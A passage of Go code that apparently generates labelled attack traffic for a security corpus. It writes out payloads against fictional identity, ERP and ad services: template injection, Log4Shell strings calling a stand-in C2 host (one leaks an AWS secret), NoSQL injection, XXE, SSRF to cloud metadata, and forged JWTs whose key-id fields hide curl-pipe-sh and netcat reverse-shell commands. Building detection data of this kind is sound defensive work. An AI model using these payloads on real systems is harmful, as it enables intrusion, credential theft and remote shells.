		{h8Ad, "q", "search", "#set($e=\"e\")$e.getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\",null).invoke(null,null).exec(\"id\")"},
		{h8ERP, "json", "notes", "<%= `id` %>"},
		{h8ERP, "json", "notes", "<%= system('cat /etc/passwd') %>"},
		{h8ERP, "soap", "Note", "{system('id')}"},
		{h8Ad, "q", "lang", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x"},
		{h8IdP, "json", "profile.bio", "@(System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\"))"},
		{h8Ad, "json", "targeting.note", "${T(java.lang.Runtime).getRuntime().exec('cat /etc/passwd')}"},
		// Log4Shell
		{h8IdP, "hdr", "User-Agent", "${jndi:ldap://185.220.101.34:1389/Exploit}"},
		{h8ERP, "hdr", "X-Api-Version", "${jndi:rmi://c2.evil-cdn.example:1099/obj}"},
		{h8Ad, "hdr", "Referer", "${${lower:j}ndi:${lower:l}dap://c2.evil-cdn.example/a}"},
		{h8Ad, "json", "name", "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://c2.evil-cdn.example/z}"},
		{h8IdP, "json", "userName", "${jndi:dns://c2.evil-cdn.example/u}"},
		{h8ERP, "soap", "Sku", "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//c2.evil-cdn.example/s}"},
		{h8Ad, "cookie", "ap_campaign", "${jndi:ldaps://c2.evil-cdn.example/c}"},
		{h8IdP, "hdr", "X-Forwarded-For", "${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.c2.evil-cdn.example/a}"},
		// NoSQL
		{h8IdP, "qraw", "username[$ne]", "x&password[$ne]=x"},
		{h8Ad, "qraw", "$where", "sleep(5000)"},
		{h8Ad, "qraw", "email[$regex]", "^adm.*"},
	}
	for _, p := range ps {
		g.addA(g.inj(p.host, p.loc, p.name, p.p), h8OTH)
	}
	// NoSQL in JSON bodies
	nos := []struct {
		host, path string
		body       any
	}{
		{h8IdP, "/api/v1/authn", map[string]any{"username": map[string]any{"$gt": ""}, "password": map[string]any{"$gt": ""}}},
		{h8IdP, "/api/v1/authn", map[string]any{"username": "admin@northwind.example", "password": map[string]any{"$ne": "nope"}}},
		{h8Ad, "/v2/reports/query", map[string]any{"filters": map[string]any{"$where": "function(){ return this.spend_micros > 0 || sleep(3000) }"}}},
		{h8Ad, "/v2/audiences/search", map[string]any{"query": map[string]any{"email": map[string]any{"$regex": ".*", "$options": "si"}}}},
		{h8IdP, "/admin/v1/users/search", map[string]any{"filter": map[string]any{"password_hash": map[string]any{"$regex": "^\\$2b\\$12\\$a"}}}},
		{h8Ad, "/v2/reports/query", map[string]any{"filters": map[string]any{"$function": map[string]any{"body": "function(){ return db.getSiblingDB('admin') }", "args": []any{}, "lang": "js"}}}},
	}
	for _, n := range nos {
		e := g.ex(g.atk(n.host), "POST", n.path).jbody(n.body)
		g.addA(e.rjson(401, map[string]any{"errorCode": "E0000004", "errorSummary": "Authentication failed"}), h8OTH)
	}
	// XXE and XInclude in SOAP, SAML and uploads
	xxe := []struct{ host, path, ct, body string }{
		{h8ERP, "/soap/InventoryService", "text/xml", `<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/" xmlns:inv="urn:palletworks:inventory:v3"><soapenv:Body><inv:GetStockLevel><inv:Sku>&xxe;</inv:Sku></inv:GetStockLevel></soapenv:Body></soapenv:Envelope>`},
		{h8ERP, "/soap/OrderService", "text/xml", `<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE r [<!ENTITY % remote SYSTEM "http://c2.evil-cdn.example/evil.dtd"> %remote; %int; %trick;]><soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Body><GetOrder><Id>1</Id></GetOrder></soapenv:Body></soapenv:Envelope>`},
		{h8ERP, "/soap/InventoryService", "text/xml", `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;"><!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">]><soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Body><GetStockLevel><Sku>&lol4;</Sku></GetStockLevel></soapenv:Body></soapenv:Envelope>`},
		{h8ERP, "/soap/InventoryService", "text/xml", `<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/" xmlns:xi="http://www.w3.org/2001/XInclude"><soapenv:Body><GetStockLevel><Sku><xi:include parse="text" href="/etc/passwd"/></Sku></GetStockLevel></soapenv:Body></soapenv:Envelope>`},
		{h8ERP, "/api/imports/asn", "application/xml", `<?xml version="1.0" encoding="ISO-8859-1"?><!DOCTYPE asn [<!ELEMENT asn ANY><!ENTITY ship SYSTEM "file:///c:/windows/win.ini">]><asn><shipment>&ship;</shipment></asn>`},
		{h8IdP, "/app/saml/sso", "application/xml", `<?xml version="1.0"?><!DOCTYPE samlp:Response [<!ENTITY x SYSTEM "file:///opt/keystone/conf/signing.key">]><samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_1" Version="2.0"><saml:Issuer xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion">&x;</saml:Issuer></samlp:Response>`},
		{h8IdP, "/app/saml/slo", "application/xml", `<!DOCTYPE x [<!ENTITY % a SYSTEM "https://c2.evil-cdn.example/x.dtd">%a;]><samlp:LogoutRequest xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_2"/>`},
		{h8IdP, "/scim/v2/Bulk", "application/xml", `<?xml version="1.0"?><!DOCTYPE data SYSTEM "http://c2.evil-cdn.example/scim.dtd"><data>&exfil;</data>`},
	}
	for _, x := range xxe {
		e := g.ex(g.atk(x.host), "POST", x.path)
		e.body = x.body
		e.reqH["Content-Type"] = []string{x.ct}
		e.resp(500, "text/xml; charset=utf-8", h8SoapFault("soap:Server", "Request could not be processed", ""))
		g.addA(e, h8OTH)
	}
	// XXE in an uploaded SVG and XML file
	e := g.ex(g.atk(h8Ad), "POST", "/v2/creatives").multipart([][4]string{{"name", "", "", "xxe"}, {"file", "banner.svg", "image/svg+xml", `<?xml version="1.0" standalone="yes"?><!DOCTYPE test [<!ENTITY xxe SYSTEM "file:///etc/hostname">]><svg width="128" height="128" xmlns="http://www.w3.org/2000/svg"><text font-size="16" x="0" y="16">&xxe;</text></svg>`}})
	g.addA(e.rjson(201, map[string]any{"id": "cr_" + g.hex(8)}), h8OTH)
	e = g.ex(g.atk(h8ERP), "POST", "/api/imports/catalog").multipart([][4]string{{"file", "catalog.xml", "application/xml", `<?xml version="1.0"?><!DOCTYPE c [<!ENTITY e SYSTEM "file:///etc/passwd">]><catalog><item sku="X">&e;</item></catalog>`}})
	g.addA(e.rjson(202, map[string]any{"job_id": "imp_" + g.hex(12)}), h8OTH)
}

// ---------- SSRF ----------

func (g *h8Gen) awsCreds() map[string]any {
	return (map[string]any{"Code": "Success", "LastUpdated": "2026-11-20T07:12:01Z", "Type": "AWS-HMAC", "AccessKeyId": "ASIA" + g.chars(16, "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567"), "SecretAccessKey": g.chars(40, h8Alnum+"/+"), "Token": "IQoJb3JpZ2luX2VjE" + g.chars(300, h8B64), "Expiration": "2026-11-20T13:40:22Z"})
}

func (g *h8Gen) attackSSRF() {
	type s struct{ host, loc, name, p string }
	ps := []s{
		{h8IdP, "json", "metadata_url", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"},
		{h8IdP, "json", "jwks_uri", "http://127.0.0.1:8080/actuator/env"},
		{h8IdP, "json", "logo_uri", "http://[::1]:9000/admin"},
		{h8IdP, "json", "issuer", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"},
		{h8IdP, "json", "scim.base_url", "http://10.0.12.7:9200/_cat/indices?v"},
		{h8IdP, "q", "metadata_url", "http://2130706433/"},
		{h8IdP, "q", "url", "http://0x7f000001:6379/"},
		{h8IdP, "q", "callback", "http://0177.0.0.1/server-status"},
		{h8IdP, "q", "target", "http://127.1/"},
		{h8IdP, "q", "redirect_uri", "http://127.0.0.1:2375/containers/json"},
		{h8IdP, "form", "url", "http://[::ffff:127.0.0.1]/"},
		{h8IdP, "form", "webhook", "http://[::ffff:a9fe:a9fe]/latest/meta-data/"},
		{h8IdP, "json", "saml.metadata_url", "http://①②⑦.⓪.⓪.①/saml/metadata"},
		{h8IdP, "json", "sp.acs_url", "http://app.10.0.0.1.nip.io/acs"},
		{h8IdP, "q", "jwks_uri", "http://7f000001.nip.io/keys"},
		{h8IdP, "q", "avatar_url", "http://admin.lvh.me:8080/"},
		{h8IdP, "json", "profile.picture", "http://localtest.me/phpmyadmin/"},
		{h8IdP, "json", "federation.entity", "https://keystone-id.test@127.0.0.1/"},
		{h8IdP, "q", "import_url", "ldap://10.0.0.3:389/dc=corp,dc=example"},
		{h8IdP, "json", "scim.base_url", "http://172.16.5.4:8500/v1/kv/?recurse"},
		{h8ERP, "soap", "CallbackUrl", "http://169.254.169.254/latest/user-data"},
		{h8ERP, "soap", "LabelUrl", "http://192.168.1.1/cgi-bin/luci"},
		{h8ERP, "soap", "ImportUrl", "gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0AFLUSHALL%0D%0A"},
		{h8ERP, "soap", "ImportUrl", "dict://127.0.0.1:11211/stats"},
		{h8ERP, "json", "source_url", "file:///opt/palletworks/conf/application.yml"},
		{h8ERP, "json", "carrier.tracking_url", "http://100.100.100.200/latest/meta-data/ram/security-credentials/"},
		{h8ERP, "json", "delivery.pod_url", "http://[fd00:ec2::254]/latest/meta-data/"},
		{h8ERP, "q", "source_url", "http://169.254.169.254.nip.io/latest/meta-data/"},
		{h8ERP, "q", "feed", "http://0251.0376.0251.0376/latest/meta-data/"},
		{h8ERP, "q", "url", "http://0xa9fea9fe/latest/meta-data/"},
		{h8ERP, "q", "url", "http://2852039166/computeMetadata/v1/"},
		{h8ERP, "form", "label_url", "http://169.254.170.2/v2/credentials/" + "c5f2a1d0-8b7e-4c3a-9f1e-2d6b0a4e7c91"},
		{h8ERP, "form", "callback", "http://[fe80::1%25eth0]/"},
		{h8ERP, "mp", "source_url", "http://10.20.0.15:8080/manager/html"},
		{h8ERP, "qraw", "url", "http%3A%2F%2F127.0.0.1%3A8161%2Fadmin%2F"},
		{h8ERP, "qraw", "url", "http%253A%252F%252F169.254.169.254%252Flatest%252Fmeta-data%252F"},
		{h8Ad, "json", "landing_url", "http://169.254.169.254/metadata/instance?api-version=2021-02-01"},
		{h8Ad, "json", "image_url", "http://localhost:15672/api/users"},
		{h8Ad, "json", "postback_url", "http://192.168.49.2:10250/pods"},
		{h8Ad, "json", "webhook.url", "http://0x7f.1/"},
		{h8Ad, "json", "tracking.pixel_url", "http://100.64.0.1/"},
		{h8Ad, "q", "preview_url", "http://127.0.0.1:9090/api/v1/targets"},
		{h8Ad, "q", "image_url", "http://metadata.google.internal/computeMetadata/v1/project/attributes/ssh-keys"},
		{h8Ad, "q", "feed_url", "https://partner.example@10.0.0.8/export"},
		{h8Ad, "q", "url", "http://127.0.0.1.nip.io:5601/app/kibana"},
		{h8Ad, "gql", "url", "http://169.254.169.254/latest/api/token"},
		{h8Ad, "form", "website", "http://[0:0:0:0:0:ffff:7f00:1]:8080/"},
		{h8Ad, "mp", "click_url", "http://10.1.2.3:8500/v1/agent/self"},
		{h8Ad, "json", "integration.endpoint", "gopher://10.0.0.9:25/xHELO%20evil"},
		{h8Ad, "json", "creative.vast_url", "http://sub.localtest.me:8000/vast.xml"},
		{h8Ad, "q", "redirect", "http://127.0.0.1:80#@partner.example/"},
		{h8IdP, "json", "metadata_url", "http://[::ffff:169.254.169.254]/latest/meta-data/"},
		{h8ERP, "soap", "CallbackUrl", "http://169.254.169.254:80/latest/meta-data/hostname"},
		{h8ERP, "json", "carrier.webhook", "http://0x0a.0x00.0x00.0x01/"},
		{h8Ad, "json", "postback_url", "http://017700000001/"},
		{h8Ad, "json", "webhook.url", "http://127.0.0.1:25/"},
		{h8IdP, "json", "discovery_url", "https://10.0.0.12/.well-known/openid-configuration"},
		{h8Ad, "q", "image_url", "http://192.168.0.1.nip.io/"},
		{h8ERP, "q", "feed", "HTTP://LOCALHOST:8080/manager/status"},
	}
	for i, p := range ps {
		e := g.inj(p.host, p.loc, p.name, p.p)
		if strings.Contains(p.p, "169.254.169.254/latest/meta-data/iam") || (strings.Contains(p.p, "100.100.100.200")) || strings.Contains(p.p, "169.254.170.2") {
			e.rjson(200, map[string]any{"fetched": true, "status": 200, "content": g.awsCreds()}).also(h8SENS)
		} else if strings.Contains(p.p, "service-accounts/default/token") {
			e.rjson(502, map[string]any{"error": "fetch_failed", "message": "metadata server refused the request: missing Metadata-Flavor header"})
		} else if i%4 == 0 {
			e.rjson(502, map[string]any{"error": "fetch_failed", "message": "upstream did not answer within 5s"})
		}
		g.addA(e, h8SSRF)
	}
	// host-override headers
	hs := [][3]string{
		{h8IdP, "X-Forwarded-Host", "169.254.169.254"},
		{h8IdP, "X-Original-Host", "127.0.0.1:8080"},
		{h8ERP, "X-Host", "10.0.0.1"},
		{h8ERP, "X-Forwarded-Server", "localhost"},
		{h8Ad, "X-HTTP-Host-Override", "192.168.0.10"},
		{h8Ad, "X-Forwarded-Host", "metadata.google.internal"},
		{h8ERP, "X-Forwarded-Host", "[fd00:ec2::254]"},
		{h8IdP, "X-Host", "172.31.0.2"},
		{h8Ad, "X-Original-Host", "0x7f.0.0.1"},
		{h8IdP, "X-Forwarded-Server", "10.10.1.50"},
	}
	for _, h := range hs {
		e := g.ex(g.atk(h[0]), "GET", map[string]string{h8IdP: "/admin/v1/users/me", h8ERP: "/api/suppliers/S40231", h8Ad: "/v2/account/api-credentials"}[h[0]]).hdr(h[1], h[2])
		g.addA(e.rjson(200, map[string]any{"ok": true}), h8SSRF)
	}
}

// ---------- JWT ----------

func (g *h8Gen) attackJWT() {
	type jv struct {
		header map[string]any
		mod    func(c map[string]any)
		sig    string
		scheme string
	}
	hs := func(extra map[string]any) map[string]any {
		h := map[string]any{"alg": "HS256", "typ": "JWT"}
		for k, v := range extra {
			h[k] = v
		}
		return h
	}
	admin := func(c map[string]any) { c["role"] = "admin"; c["scope"] = "openid admin superuser" }
	expired := func(d time.Duration) func(c map[string]any) {
		return func(c map[string]any) {
			c["iat"] = h8Base.Add(-d - time.Hour).Unix()
			c["nbf"] = h8Base.Add(-d - time.Hour).Unix()
			c["exp"] = h8Base.Add(-d).Unix()
		}
	}
	future := func(d time.Duration) func(c map[string]any) {
		return func(c map[string]any) {
			c["nbf"] = h8Base.Add(d).Unix()
			c["iat"] = h8Base.Add(d).Unix()
			c["exp"] = h8Base.Add(d + 24*time.Hour).Unix()
		}
	}
	vs := []jv{
		{map[string]any{"alg": "none", "typ": "JWT"}, admin, "", ""},
		{map[string]any{"alg": "None", "typ": "JWT"}, admin, "", ""},
		{map[string]any{"alg": "NONE"}, nil, "", ""},
		{map[string]any{"alg": "nOnE", "typ": "JWT"}, admin, "", ""},
		{map[string]any{"alg": "none", "typ": "JWT", "kid": h8Kid}, nil, "", ""},
		{map[string]any{"alg": "none"}, admin, "drop", ""},
		{map[string]any{"alg": "none", "typ": "JWT"}, func(c map[string]any) { c["sub"] = "u-7f31a2" }, "", "bearer"},
		{map[string]any{"alg": "none", "typ": "JWT"}, admin, "", ""},
		{hs(map[string]any{"kid": h8Kid}), admin, "", ""},
		{hs(map[string]any{"kid": h8Kid}), nil, "", ""},
		{hs(map[string]any{"kid": h8Kid}), admin, "drop", ""},
		{hs(nil), nil, "drop", ""},
		{map[string]any{"alg": "RS256", "typ": "JWT", "kid": "ks-2026-11-a"}, admin, "", ""},
		{map[string]any{"alg": "ES256", "kid": "ks-2026-08-ec"}, nil, "drop", ""},
		{hs(map[string]any{"kid": h8Kid}), expired(3 * 24 * time.Hour), "hs", ""},
		{hs(map[string]any{"kid": h8Kid}), expired(2 * time.Hour), "hs", ""},
		{hs(map[string]any{"kid": h8Kid}), expired(30 * 24 * time.Hour), "hs", ""},
		{hs(map[string]any{"kid": h8Kid}), expired(400 * 24 * time.Hour), "hs", ""},
		{hs(map[string]any{"kid": "ks-2026-10-b"}), expired(26 * time.Hour), "hs", ""},
		{hs(map[string]any{"kid": h8Kid}), expired(10 * time.Minute), "hs", ""},
		{hs(map[string]any{"kid": h8Kid}), expired(7 * 24 * time.Hour), "hs", ""},
		{hs(map[string]any{"kid": h8Kid}), expired(90 * 24 * time.Hour), "hs", ""},
		{hs(map[string]any{"kid": h8Kid}), future(48 * time.Hour), "hs", ""},
		{hs(map[string]any{"kid": h8Kid}), future(365 * 24 * time.Hour), "hs", ""},
		{hs(map[string]any{"kid": h8Kid}), future(6 * time.Hour), "hs", ""},
		{hs(map[string]any{"kid": h8Kid}), future(30 * 24 * time.Hour), "hs", ""},
		{hs(map[string]any{"kid": "../../../../../../dev/null"}), admin, "hs", ""},
		{hs(map[string]any{"kid": "../../../../proc/sys/kernel/randomize_va_space"}), admin, "hs", ""},
		{hs(map[string]any{"kid": "x' UNION SELECT 'h8-corpus-hmac-key' -- "}), admin, "hs", ""},
		{hs(map[string]any{"kid": "ks-2026-11-a' OR '1'='1"}), nil, "hs", ""},
		{hs(map[string]any{"kid": "key1|/usr/bin/id"}), admin, "hs", ""},
		{hs(map[string]any{"kid": "ks; curl http://c2.evil-cdn.example/k | sh"}), nil, "hs", ""},
		{hs(map[string]any{"kid": "$(cat /etc/hostname)"}), admin, "hs", ""},
		{hs(map[string]any{"kid": "ks-2026-11-a && sleep 5"}), nil, "hs", ""},
		{hs(map[string]any{"kid": "`id`"}), nil, "hs", ""},
		{hs(map[string]any{"kid": "/etc/passwd"}), admin, "hs", ""},
		{map[string]any{"alg": "RS256", "typ": "JWT", "jku": "https://c2.evil-cdn.example/.well-known/jwks.json", "kid": "attacker-1"}, admin, g.chars(342, h8Alnum+"-_"), ""},
		{map[string]any{"alg": "RS256", "jku": "http://127.0.0.1:8000/jwks.json", "kid": "k1"}, admin, g.chars(342, h8Alnum+"-_"), ""},
		{map[string]any{"alg": "RS256", "jku": "https://sso.keystone-id.test.evil-cdn.example/keys", "kid": "ks-2026-11-a"}, admin, g.chars(342, h8Alnum+"-_"), ""},
		{map[string]any{"alg": "RS256", "jku": "http://169.254.169.254/latest/meta-data/jwks", "kid": "m"}, nil, g.chars(342, h8Alnum+"-_"), ""},
		{map[string]any{"alg": "RS256", "jku": "https://pastebin.example/raw/7hJk2LmQ", "kid": "p1"}, admin, g.chars(342, h8Alnum+"-_"), ""},
		{map[string]any{"alg": "RS256", "x5u": "https://c2.evil-cdn.example/cert.pem"}, admin, g.chars(342, h8Alnum+"-_"), ""},
		{map[string]any{"alg": "RS256", "x5u": "http://10.0.0.5/cert.pem", "kid": "x"}, nil, g.chars(342, h8Alnum+"-_"), ""},
		{map[string]any{"alg": "RS256", "x5u": "https://cdn.evil-cdn.example/x5u/chain.pem"}, admin, g.chars(342, h8Alnum+"-_"), ""},
		{map[string]any{"alg": "RS256", "typ": "JWT", "jwk": map[string]any{"kty": "RSA", "e": "AQAB", "kid": "evil", "n": g.chars(342, h8Alnum+"-_")}}, admin, g.chars(342, h8Alnum+"-_"), ""},
		{map[string]any{"alg": "ES256", "jwk": map[string]any{"kty": "EC", "crv": "P-256", "x": g.chars(43, h8Alnum+"-_"), "y": g.chars(43, h8Alnum+"-_")}}, admin, g.chars(86, h8Alnum+"-_"), ""},
		{map[string]any{"alg": "HS256", "jwk": map[string]any{"kty": "oct", "k": g.chars(43, h8Alnum+"-_")}}, admin, g.chars(43, h8Alnum+"-_"), ""},
		{map[string]any{"alg": "RS256", "jwk": map[string]any{"kty": "RSA", "e": "AQAB", "n": g.chars(342, h8Alnum+"-_")}, "kid": h8Kid}, nil, g.chars(342, h8Alnum+"-_"), ""},
		{map[string]any{"alg": "none", "typ": "JWT"}, expired(24 * time.Hour), "", ""},
		{hs(map[string]any{"kid": "../../keys/public.pem"}), admin, "hs", ""},
		{hs(map[string]any{"kid": h8Kid}), func(c map[string]any) { expired(5 * 24 * time.Hour)(c); admin(c) }, "hs", ""},
		{map[string]any{"alg": "none", "typ": "JWT", "cty": "JWT"}, nil, "", ""},
		{map[string]any{"alg": "none"}, func(c map[string]any) { c["groups"] = []string{"Everyone", "Super Admins"} }, "drop", ""},
		{hs(map[string]any{"kid": h8Kid}), future(72 * time.Hour), "hs", ""},
		{hs(map[string]any{"kid": "0001' AND 1=1--"}), nil, "hs", ""},
		{hs(map[string]any{"kid": "..\\..\\..\\windows\\win.ini"}), nil, "hs", ""},
		{map[string]any{"alg": "none", "typ": "at+jwt"}, admin, "", ""},
		{hs(map[string]any{"kid": h8Kid}), expired(45 * time.Minute), "hs", ""},
		{hs(map[string]any{"kid": h8Kid}), expired(12 * time.Hour), "hs", ""},
		{hs(map[string]any{"kid": h8Kid}), future(12 * time.Hour), "hs", ""},
		{map[string]any{"alg": "RS256", "jku": "https://raw.githubusercontent.example/attacker/keys/main/jwks.json"}, admin, g.chars(342, h8Alnum+"-_"), ""},
		{map[string]any{"alg": "HS256", "typ": "JWT"}, admin, "", ""},
		{map[string]any{"alg": "nonE"}, admin, "", ""},
		{hs(map[string]any{"kid": "k|nc 185.220.101.34 4444 -e /bin/sh"}), nil, "hs", ""},
	}
	hosts := []string{h8IdP, h8ERP, h8Ad}
	for i, v := range vs {
		host := hosts[i%3]
		a := g.atk(host)
		c := h8Claims(a.sub, a.role, "https://"+host)
		if v.mod != nil {
			v.mod(c)
		}
		tok := h8JWTTok(v.header, c, v.sig)
		path := map[string]string{h8IdP: "/admin/v1/users?limit=50", h8ERP: "/api/suppliers/S40231", h8Ad: "/v2/billing/payment-methods"}[host]
		if i%5 == 2 {
			path = map[string]string{h8IdP: "/admin/v1/signing-keys", h8ERP: "/api/exports/inventory.csv", h8Ad: "/v2/campaigns?per_page=50"}[host]
		}
		e := g.ex(a, "GET", path)
		scheme := "Bearer "
		if v.scheme == "bearer" {
			scheme = "bearer "
		}
		e.hdr("Authorization", scheme+tok)
		e.rjson(200, map[string]any{"data": []any{map[string]any{"id": "obj_" + g.hex(8), "name": "Northwind"}}, "total": 1})
		g.addA(e, h8JWT)
	}
}

// ---------- verbose errors ----------

func (g *h8Gen) attackVerbose() {
	ls := []struct {
		status   int
		ct, body string
	}{
		{500, "application/json", `{"timestamp":"2026-11-20T08:14:02.118+00:00","status":500,"error":"Internal Server Error","trace":"java.lang.NullPointerException: Cannot invoke \"com.palletworks.inventory.Bin.getZone()\" because \"bin\" is null\n\tat com.palletworks.inventory.PickService.allocate(PickService.java:214)\n\tat com.palletworks.inventory.PickController.create(PickController.java:88)\n\tat java.base/jdk.internal.reflect.DirectMethodHandleAccessor.invoke(DirectMethodHandleAccessor.java:103)\n\tat org.springframework.web.servlet.FrameworkServlet.service(FrameworkServlet.java:885)\n","path":"/api/picklists"}`},
		{500, "text/xml", h8SoapFault("soap:Server", "Fault occurred while processing.", `<ns1:stackTrace xmlns:ns1="http://cxf.apache.org/fault">org.apache.cxf.interceptor.Fault: Could not get JDBC Connection
	at org.apache.cxf.service.invoker.AbstractInvoker.createFault(AbstractInvoker.java:162)
	at org.apache.cxf.jaxws.AbstractJAXWSMethodInvoker.createFault(AbstractJAXWSMethodInvoker.java:267)
Caused by: org.springframework.jdbc.CannotGetJdbcConnectionException: Failed to obtain JDBC Connection
	at org.springframework.jdbc.datasource.DataSourceUtils.getConnection(DataSourceUtils.java:84)
</ns1:stackTrace>`)},
		{500, "text/plain", "Traceback (most recent call last):\n  File \"/srv/adpulse/venv/lib/python3.12/site-packages/django/core/handlers/exception.py\", line 55, in inner\n    response = get_response(request)\n  File \"/srv/adpulse/reports/views.py\", line 212, in query\n    rows = engine.run(spec)\n  File \"/srv/adpulse/reports/engine.py\", line 98, in run\n    return self._agg[spec.metric](rows)\nKeyError: 'spend_micros'\n"},
		{500, "text/plain", "panic: runtime error: invalid memory address or nil pointer dereference\n[signal SIGSEGV: segmentation violation code=0x1 addr=0x18 pc=0x8a3f2c]\n\ngoroutine 8121 [running]:\ngithub.com/keystone-id/admin/internal/scim.(*Handler).patchUser(0xc0004a2000, {0xc001b2e000, 0x1f4})\n\t/build/internal/scim/users.go:311 +0x2ac\nnet/http.HandlerFunc.ServeHTTP(...)\n\t/usr/local/go/src/net/http/server.go:2220\n"},
		{500, "text/html", `<!DOCTYPE html><html><head><title>Apache Tomcat/9.0.85 - Error report</title></head><body><h1>HTTP Status 500 – Internal Server Error</h1><hr class="line" /><p><b>Type</b> Exception Report</p><p><b>Message</b> Request processing failed: java.lang.IllegalStateException: No warehouse bound to thread</p><p><b>Exception</b></p><pre>jakarta.servlet.ServletException: Request processing failed: java.lang.IllegalStateException: No warehouse bound to thread
	org.springframework.web.servlet.FrameworkServlet.processRequest(FrameworkServlet.java:1022)
	org.springframework.web.servlet.FrameworkServlet.doGet(FrameworkServlet.java:903)
</pre><p><b>Note</b> The full stack trace of the root cause is available in the server logs.</p><hr class="line" /><h3>Apache Tomcat/9.0.85</h3></body></html>`},
		{500, "text/html", `<!DOCTYPE html><html lang="en"><head><meta name="robots" content="NONE,NOARCHIVE"><title>OperationalError at /v2/reports/query</title></head><body><div id="summary"><h1>OperationalError at /v2/reports/query</h1><pre class="exception_value">no such column: creative.spend</pre><table class="meta"><tr><th>Django Version:</th><td>5.1.3</td></tr><tr><th>Exception Location:</th><td>/srv/adpulse/venv/lib/python3.12/site-packages/django/db/backends/sqlite3/base.py, line 354, in execute</td></tr><tr><th>Python Executable:</th><td>/srv/adpulse/venv/bin/python</td></tr></table></div><div id="explanation"><p>You're seeing this error because you have <code>DEBUG = True</code> in your Django settings file. Change that to <code>False</code>, and Django will display a standard page generated by the handler for this status code.</p></div></body></html>`},
		{500, "application/json", `{"message":"SQLSTATE[23000]: Integrity constraint violation: 1062 Duplicate entry 'lena@northwind.example' for key 'users.users_email_unique' (Connection: mysql, SQL: insert into ` + "`users`" + ` (` + "`email`" + `) values (lena@northwind.example))","exception":"Illuminate\\Database\\UniqueConstraintViolationException","file":"/var/www/adpulse/vendor/laravel/framework/src/Illuminate/Database/Connection.php","line":825,"trace":[{"file":"/var/www/adpulse/vendor/laravel/framework/src/Illuminate/Database/Connection.php","line":779,"function":"runQueryCallback","class":"Illuminate\\Database\\Connection","type":"->"}]}`},
		{500, "text/html", `<br />
<b>Fatal error</b>:  Uncaught PDOException: SQLSTATE[HY000] [2002] Connection refused in /var/www/html/lib/Db.php:41
Stack trace:
#0 /var/www/html/lib/Db.php(41): PDO->__construct('mysql:host=db;d...', 'erp', Object(SensitiveParameterValue))
#1 /var/www/html/api/export.php(12): Db::connect()
#2 {main}
  thrown in <b>/var/www/html/lib/Db.php</b> on line <b>41</b><br />`},
		{200, "text/html", `<br />
<b>Warning</b>:  Undefined array key "warehouse" in <b>/var/www/html/api/stock.php</b> on line <b>27</b><br />
{"sku":"PLT-EUR-1200","qty":12}`},
		{500, "text/plain", "Error: connect ECONNREFUSED 10.0.3.14:5432\n    at TCPConnectWrap.afterConnect [as oncomplete] (node:net:1611:16)\n    at Protocol._enqueue (/app/node_modules/pg/lib/client.js:545:12)\n    at async ReportService.run (/app/dist/services/report.service.js:77:21)\n"},
		{500, "application/json", `{"error":"TypeError: Cannot read properties of undefined (reading 'daily')\n    at computePacing (file:///app/src/pacing/budget.mjs:42:31)\n    at async handler (file:///app/src/routes/campaigns.mjs:118:5)"}`},
		{500, "application/json", `{"statusCode":500,"message":"QueryFailedError: relation \"campaign_stats_v2\" does not exist","stack":"QueryFailedError: relation \"campaign_stats_v2\" does not exist\n    at PostgresQueryRunner.query (/app/node_modules/typeorm/driver/postgres/PostgresQueryRunner.js:219:19)"}`},
		{500, "text/plain", "ERROR:  invalid input syntax for type uuid: \"usr_00ZZ\"\nLINE 1: SELECT * FROM users WHERE id = 'usr_00ZZ'\n                                       ^\n"},
		{500, "application/json", `{"error":"pq: duplicate key value violates unique constraint \"groups_name_key\""}`},
		{500, "application/json", `{"errors":[{"message":"SQLITE_CONSTRAINT: UNIQUE constraint failed: creatives.sha256","extensions":{"code":"INTERNAL_SERVER_ERROR"}}]}`},
		{500, "text/html", `<html><body><h2>Server Error in '/' Application.</h2><b> Exception Details: </b>System.Data.SqlClient.SqlException: Invalid object name 'dbo.StockLedger'.<br><b>Stack Trace:</b><pre>[SqlException (0x80131904): Invalid object name 'dbo.StockLedger'.]
   System.Data.SqlClient.SqlConnection.OnError(SqlException exception, Boolean breakConnection, Action` + "`1" + ` wrapCloseInAction) +2582606
   PalletWorks.Legacy.StockRepository.GetLedger(String sku) in C:\build\Legacy\StockRepository.cs:line 77
</pre><hr>Version Information: Microsoft .NET Framework Version:4.0.30319; ASP.NET Version:4.8.4718.0</body></html>`},
		{500, "text/plain", "Msg 208, Level 16, State 1, Line 1\nInvalid object name 'erp.dbo.PickLists'.\n"},
		{500, "application/json", `{"error":"ORA-00942: table or view does not exist","sql":"SELECT * FROM WMS.BIN_LOCATIONS WHERE ZONE = :1"}`},
		{500, "text/plain", "com.ibm.db2.jcc.am.SqlSyntaxErrorException: DB2 SQL Error: SQLCODE=-204, SQLSTATE=42704, SQLERRMC=ERP.SHIPMENTS, DRIVER=4.33.31\n"},
